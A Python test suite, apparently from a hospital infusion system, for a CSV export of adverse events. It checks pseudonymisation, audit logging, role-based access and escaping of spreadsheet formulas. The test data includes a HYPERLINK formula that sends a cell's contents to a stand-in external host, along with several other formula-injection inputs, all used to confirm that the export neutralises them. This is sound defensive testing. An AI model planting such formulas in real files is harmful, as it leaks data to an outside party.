"""The export: who took what out is on record, a spreadsheet runs nothing of it, and nobody is named."""

import csv
import io
from datetime import timedelta
from decimal import Decimal

import pytest

from apps.ledger.models import Event
from apps.ledger.selectors import first_broken_event
from apps.safety.models import AdverseEvent
from tests.builders import NOW, Door, admit_patient, climb, order_course, react, start_day, vial

pytestmark = pytest.mark.django_db
PATH = "adverse-events/export/"
FORMULA = '=HYPERLINK("http://elsewhere.example/?"&A1,"look")'
NAME = "Testperson Rogn-Særpreget"


@pytest.fixture
def event(hospital):
    patient = admit_patient(hospital, name=NAME)
    session = start_day(
        hospital,
        order_course(hospital, patient),
        vials=[
            vial(lot_number="+LOT-A1204", volume_ml=Decimal(200)),
            vial(lot_number="B,2", volume_ml=Decimal(50)),
        ],
    )
    climb(hospital, session.pk, to_step=1)
    react(
        hospital, session.pk, NOW + timedelta(minutes=31), severity="moderate", action="pause", note=FORMULA
    )
    return AdverseEvent.objects.get()


def export(person):
    answer = Door(person).get(PATH)
    assert answer.status_code == 200
    assert answer["Content-Type"].startswith("text/csv")
    text = answer.content.decode()
    return text, list(csv.DictReader(io.StringIO(text)))


def test_a_row_says_what_was_running(hospital, event):
    _, [row] = export(hospital.safety_officer)
    assert row["adverse_event_id"] == str(event.pk)
    assert row["patient_pseudonym"] == event.patient.pseudonym
    assert (row["ward"], row["term"], row["severity"]) == ("Neurology", "Headache", "moderate")
    assert (row["rate_ml_per_h"], row["rate_ml_per_kg_h"], row["volume_given_ml"]) == ("60", "1", "16")
    assert (row["minutes_since_start"], row["product"], row["action"]) == ("31", "Kiovig", "pause")
    assert row["onset_at"] == (NOW + timedelta(minutes=31)).isoformat()


def test_what_a_spreadsheet_would_run_is_text(hospital, event):
    text, [row] = export(hospital.safety_officer)
    assert row["note"] == "'" + FORMULA
    assert row["lots"] == "'+LOT-A1204; B,2"
    assert not [cell for cell in row.values() if cell[:1] in "=+-@\t\r" and cell]
    assert len(text.splitlines()) == 2


@pytest.mark.parametrize("note", ["a\nb", "\t=1+1", '"; =1', "＝1+1", "@SUM(1)", "-1+1", "plain, with comma"])
def test_an_odd_note_stays_in_its_cell(hospital, event, note):
    AdverseEvent.objects.update(note=note)
    _, [row] = export(hospital.safety_officer)
    assert row["note"].lstrip("'") == note
    assert row["adverse_event_id"] == str(event.pk)


def test_nobody_is_named(hospital, event):
    text, _ = export(hospital.safety_officer)
    patient = event.patient
    for secret in (*NAME.split(), patient.medical_record_number, patient.birth_date.isoformat()):
        assert secret not in text


def test_the_export_is_on_record(hospital, event, clock):
    clock.set(NOW + timedelta(hours=1))
    export(hospital.safety_officer)
    export(hospital.safety_officer)
    records = Event.objects.filter(name="safety.adverse_events.exported")
    assert records.count() == 2
    assert len({record.payload["export"] for record in records}) == 2
    for record in records:
        assert record.actor == f"user:{hospital.safety_officer.pk}"
        assert record.occurred_at == clock.now
        number = record.payload["export"]
        assert record.payload == {"format": "csv", "adverse_events": [event.pk], "export": number}
        assert first_broken_event(record.subject) is None


@pytest.mark.parametrize("role", ["nurse", "physician", "administrator"])
def test_nobody_else_exports_and_the_refusal_leaves_no_record(hospital, event, role):
    answer = Door(getattr(hospital, role)).get(PATH)
    assert (answer.status_code, answer.json()["code"]) == (403, "not_your_role")
    assert not Event.objects.filter(name="safety.adverse_events.exported").exists()


def test_another_wards_officer_gets_a_header_and_nothing_else(event, elsewhere):
    text, rows = export(elsewhere.safety_officer)
    assert rows == [] and text.startswith("adverse_event_id,")
    record = Event.objects.get(name="safety.adverse_events.exported")
    assert record.payload["adverse_events"] == []
